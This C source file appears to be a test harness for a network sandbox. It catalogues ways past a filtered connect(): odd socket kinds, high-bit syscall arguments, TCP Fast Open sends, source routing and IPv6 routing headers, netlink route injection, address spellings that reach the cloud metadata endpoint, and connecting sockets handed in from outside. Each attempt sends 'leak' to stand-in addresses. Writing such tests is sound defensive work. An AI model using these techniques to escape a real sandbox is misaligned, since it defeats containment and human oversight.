/* SPDX-License-Identifier: Apache-2.0 */
/*
 * net_probe_attack.c - ways past the connect() that is judged. Prints one line for each that worked, then "done";
 * what left the machine all the same is for the capture to see (net_attacks.sh).
 */
#include "net_probe.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#define HIGH 0x100000000UL /* a bit the kernel ignores in int arguments */

static struct sockaddr_in address(const char *ip, const char *port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	inet_pton(AF_INET, ip, &a.sin_addr);
	return a;
}

static struct sockaddr_in6 address6(const char *ip, const char *port)
{
	struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(port))};
	inet_pton(AF_INET6, ip, &a.sin6_addr);
	return a;
}

/* ---- kinds of sockets ----------------------------------------------------- */

static int expected_kind(int family, int type, int protocol)
{
	if (family == AF_UNIX)
		return 1;
	if (family == AF_NETLINK)
		return protocol == NETLINK_ROUTE;
	if (family != AF_INET && family != AF_INET6)
		return 0;
	return (type == SOCK_STREAM && (protocol == 0 || protocol == IPPROTO_TCP)) ||
	       (type == SOCK_DGRAM && (protocol == 0 || protocol == IPPROTO_UDP));
}

/* Every family, type and protocol: only those that are judged, or born in the dead end, can be made. */
static void every_kind(void)
{
	for (int family = 0; family < 64; family++)
		for (int type = 0; type < 16; type++)
			for (int protocol = 0; protocol < 300; protocol++) {
				int fd = (int)syscall(SYS_socket, HIGH | (unsigned)family,
					(unsigned)type | (protocol & 1 ? SOCK_NONBLOCK : 0), protocol);
				if (fd < 0)
					continue;
				if (!expected_kind(family, type, protocol))
					printf("a socket of family %d type %d protocol %d\n", family, type, protocol);
				close(fd);
			}
}

/* ---- sending with an address ---------------------------------------------- */

static void send_all_ways(int fd, const void *to, socklen_t len)
{
	static const unsigned long flags[] = {0, MSG_FASTOPEN, HIGH | MSG_FASTOPEN, MSG_MORE, MSG_MORE | MSG_FASTOPEN,
		MSG_DONTWAIT, MSG_OOB, MSG_ZEROCOPY, 0xffffffff00000000UL | MSG_FASTOPEN | MSG_NOSIGNAL};
	char text[] = "leak";
	struct iovec iov = {text, 4};
	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		unsigned long f = flags[i] | MSG_NOSIGNAL;
		struct mmsghdr m = {
			.msg_hdr = {.msg_name = (void *)to, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1}};
		(void)syscall(SYS_sendto, fd, text, 4, f, to, len);
		(void)syscall(SYS_sendmsg, fd, &m.msg_hdr, f);
		(void)syscall(SYS_sendmmsg, fd, &m, 1, f);
	}
}

static void sends(const char *good, const char *bad, const char *port)
{
	struct sockaddr_in to = address(bad, port), allowed = address(good, port);
	struct sockaddr_in6 to6 = address6("2001:db8::66", port);
	const int on = 1;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	send_all_ways(fd, &to, sizeof(to));
	close(fd);
	fd = socket(AF_INET6, SOCK_STREAM, 0);
	send_all_ways(fd, &to6, sizeof(to6));
	close(fd);
	/* a connection that is deferred until the first send */
	fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on));
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		printf("a deferred connection\n");
	(void)connect(fd, (struct sockaddr *)&allowed, sizeof(allowed));
	send_all_ways(fd, &to, sizeof(to));
	close(fd);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	(void)connect(fd, (struct sockaddr *)&to, sizeof(to));
	send_all_ways(fd, &to, sizeof(to));
	setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "link0", 6);
	send_all_ways(fd, &to, sizeof(to));
	close(fd);
	fd = socket(AF_INET6, SOCK_DGRAM, 0);
	send_all_ways(fd, &to6, sizeof(to6));
	close(fd);
}

/* ---- routes of the program's own ------------------------------------------ */

static void source_route(const char *good, const char *bad, const char *port, int after)
{
	struct sockaddr_in to = address(good, port);
	struct in_addr hop;
	inet_pton(AF_INET, bad, &hop);
	unsigned char loose[8] = {1 /* no operation */, 131 /* loose source route */, 7, 4};
	memcpy(loose + 4, &hop, 4);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (after)
		(void)connect(fd, (struct sockaddr *)&to, sizeof(to));
	if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, loose, sizeof(loose)) == 0)
		printf("a source route\n");
	if (!after)
		(void)connect(fd, (struct sockaddr *)&to, sizeof(to));
	(void)send(fd, "leak", 4, MSG_NOSIGNAL);
	close(fd);
}

static void routing_header(const char *port)
{
	struct sockaddr_in6 to = address6("2001:db8::10", port);
	struct {
		uint8_t next, length, type, left, last, flags;
		uint16_t tag;
		struct in6_addr segment[2];
	} header = {.length = 4, .type = 4 /* segment routing */, .left = 1, .last = 1};
	inet_pton(AF_INET6, "2001:db8::66", &header.segment[1]);
	header.segment[0] = to.sin6_addr;
	int fd = socket(AF_INET6, SOCK_STREAM, 0);
	if (syscall(SYS_setsockopt, fd, HIGH | IPPROTO_IPV6, HIGH | IPV6_RTHDR, &header, sizeof(header)) == 0)
		printf("a routing header\n");
	if (setsockopt(fd, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, &header, sizeof(header)) == 0)
		printf("packet options\n");
	(void)connect(fd, (struct sockaddr *)&to, sizeof(to));
	(void)send(fd, "leak", 4, MSG_NOSIGNAL);
	close(fd);
}

static void configuration(const char *bad)
{
	struct {
		struct nlmsghdr h;
		struct rtmsg r;
		char attributes[64];
	} q = {.h = {.nlmsg_len = NLMSG_LENGTH(sizeof(struct rtmsg)),
		       .nlmsg_type = RTM_NEWROUTE,
		       .nlmsg_flags = NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK},
		.r = {.rtm_family = AF_INET,
			.rtm_table = RT_TABLE_LOCAL,
			.rtm_protocol = RTPROT_BOOT,
			.rtm_scope = RT_SCOPE_HOST,
			.rtm_type = RTN_LOCAL,
			.rtm_dst_len = 32}};
	struct rtattr *to = (struct rtattr *)((char *)&q + NLMSG_ALIGN(q.h.nlmsg_len));
	to->rta_type = RTA_DST;
	to->rta_len = RTA_LENGTH(4);
	inet_pton(AF_INET, bad, RTA_DATA(to));
	q.h.nlmsg_len = NLMSG_ALIGN(q.h.nlmsg_len) + RTA_LENGTH(4);
	struct {
		struct nlmsghdr h;
		struct nlmsgerr e;
	} a = {0};
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (send(fd, &q, q.h.nlmsg_len, 0) > 0 && recv(fd, &a, sizeof(a), MSG_TRUNC) > 0 && a.e.error == 0)
		printf("a route\n");
	close(fd);
	struct ifreq r = {.ifr_name = "lo"};
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (ioctl(fd, SIOCSIFFLAGS, &r) == 0)
		printf("an interface\n");
	const int on = 1;
	if (setsockopt(fd, IPPROTO_TCP, 19 /* TCP_REPAIR */, &on, sizeof(on)) == 0)
		printf("a connection by decree\n");
	if (setsockopt(fd, IPPROTO_IP, 19 /* IP_TRANSPARENT */, &on, sizeof(on)) == 0)
		printf("somebody else's address\n");
	close(fd);
}

/* ---- spellings of an address ---------------------------------------------- */

static void spellings(const char *port)
{
	static const char *const texts[] = {"::ffff:192.0.2.66", "::192.0.2.66", "2002:c000:242::", "64:ff9b::c000:242",
		"2001:db8::66", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "fd00:ec2::254", "fe80::2",
		"::ffff:127.0.0.1", "::", "::1", "ff02::1"};
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		for (unsigned scope = 0; scope < 3; scope++) {
			struct sockaddr_in6 a = address6(texts[i], port);
			a.sin6_scope_id = scope;
			int fd = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
			if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0 || errno == EINPROGRESS)
				printf("%s with scope %u\n", texts[i], scope);
			close(fd);
		}
}

/* ---- sockets that come from outside --------------------------------------- */

/* Descriptors that a program outside sends: their connect() is judged like any other's. */
static void handed_in(const char *path, const char *bad, const char *port)
{
	struct sockaddr_un u = {.sun_family = AF_UNIX};
	struct sockaddr_in to = address(bad, port);
	snprintf(u.sun_path, sizeof(u.sun_path), "%s", path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&u, sizeof(u)) < 0) {
		printf("no descriptors from outside: %s\n", strerrorname_np(errno));
		return;
	}
	char byte;
	struct iovec iov = {&byte, 1};
	union {
		char space[CMSG_SPACE(8 * sizeof(int))];
		struct cmsghdr align;
	} control;
	struct msghdr m = {
		.msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};
	int received[8], n = 0;
	if (recvmsg(fd, &m, 0) == 1 && CMSG_FIRSTHDR(&m)) {
		n = (int)((CMSG_FIRSTHDR(&m)->cmsg_len - CMSG_LEN(0)) / sizeof(int));
		memcpy(received, CMSG_DATA(CMSG_FIRSTHDR(&m)), (size_t)n * sizeof(int));
	}
	printf("%d sockets from outside\n", n);
	for (int i = 0; i < n; i++)
		if (connect(received[i], (struct sockaddr *)&to, sizeof(to)) == 0 || errno == EINPROGRESS)
			printf("socket %d from outside connects\n", i);
	/* and out again: what the tree can make is of no use outside either */
	int own = socket(AF_INET, SOCK_DGRAM, 0);
	struct cmsghdr *c = (struct cmsghdr *)control.space;
	m.msg_controllen = CMSG_SPACE(sizeof(int));
	*c = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
	memcpy(CMSG_DATA(c), &own, sizeof(own));
	if (sendmsg(fd, &m, MSG_NOSIGNAL) == 1)
		(void)recv(fd, &byte, 1, 0); /* it was tried */
}

int cmd_attack(char **v)
{
	every_kind();
	sends(v[0], v[1], v[2]);
	source_route(v[0], v[1], v[2], 0);
	source_route(v[0], v[1], v[2], 1);
	routing_header(v[2]);
	configuration(v[1]);
	spellings(v[2]);
	handed_in(v[3], v[1], v[2]);
	struct {
		char parameters[120];
	} ring = {0};
	if (syscall(SYS_io_uring_setup, 4, &ring) >= 0)
		printf("io_uring\n");
	printf("done\n");
	return 0;
}
